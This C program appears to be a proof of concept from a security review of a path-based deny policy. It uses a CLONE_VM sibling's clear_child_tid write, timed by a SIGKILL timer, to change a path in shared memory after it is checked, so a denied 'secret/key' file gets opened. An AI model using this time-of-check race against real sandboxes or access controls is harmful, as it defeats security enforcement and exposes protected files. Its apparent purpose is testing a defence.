/* open_killed_sibling ROOT DELAY_MS [nosibling]: review finding 6 with finding 1's
 * trick, against deny_path.
 *
 * The path ROOT/secret/keyXXXX/../../pub/hello.txt lives in memory shared with a CLONE_VM
 * sibling that registers the (4-byte aligned) XXXX as its clear_child_tid and arms a
 * POSIX timer that SIGKILLs it after DELAY_MS. Judged before the timer fires, the path
 * reaches nothing (keyXXXX does not exist: ENOENT); re-read by the kernel after the
 * sibling's exit path zeroed XXXX, it is ROOT/secret/key. Prints what the open read, or
 * the errno. The program first re-execs itself with "armed" appended, so that a policy_fn
 * can tell its opens apart. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static volatile int armed;
static long delay_ms;

static int sibling(void *slot) {
    syscall(SYS_set_tid_address, slot);
    struct sigevent sev;
    memset(&sev, 0, sizeof sev);
    sev.sigev_notify = SIGEV_THREAD_ID;
    sev.sigev_signo = SIGKILL;
    sev._sigev_un._tid = (pid_t)syscall(SYS_gettid);
    timer_t timer;
    if (syscall(SYS_timer_create, CLOCK_MONOTONIC, &sev, &timer) != 0)
        _exit(2);
    struct itimerspec its;
    memset(&its, 0, sizeof its);
    its.it_value.tv_sec = delay_ms / 1000;
    its.it_value.tv_nsec = (delay_ms % 1000) * 1000000L;
    if (syscall(SYS_timer_settime, timer, 0, &its, NULL) != 0)
        _exit(2);
    armed = 1;
    for (;;)
        pause();
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    if (strcmp(argv[argc - 1], "armed") != 0) {
        char *args[6] = {argv[0], argv[1], argv[2], argc > 3 ? argv[3] : "sibling", "armed",
                         NULL};
        execv("/proc/self/exe", args);
        return 2;
    }
    delay_ms = atol(argv[2]);
    char *area = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1,
                      0);
    if (area == MAP_FAILED)
        return 2;
    /* ROOT/secret/keyXXXX/../../pub/hello.txt, placed so that XXXX is 4-byte aligned */
    size_t prefix = strlen(argv[1]) + strlen("/secret/key");
    char *path = area + (4 - prefix % 4) % 4;
    snprintf(path, 4096, "%s/secret/keyXXXX/../../pub/hello.txt", argv[1]);
    char *xxxx = path + prefix;
    if (strcmp(argv[3], "nosibling") != 0) {
        char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                           -1, 0);
        if (stack == MAP_FAILED || clone(sibling, stack + (1 << 16), CLONE_VM | SIGCHLD, xxxx) < 0)
            return 2;
        while (!armed)
            usleep(100);
    }
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("errno %d\n", errno);
        return 0;
    }
    char buf[64] = {0};
    ssize_t got = read(fd, buf, sizeof buf - 1);
    printf("read %s", got > 0 ? buf : "(nothing)\n");
    return 0;
}
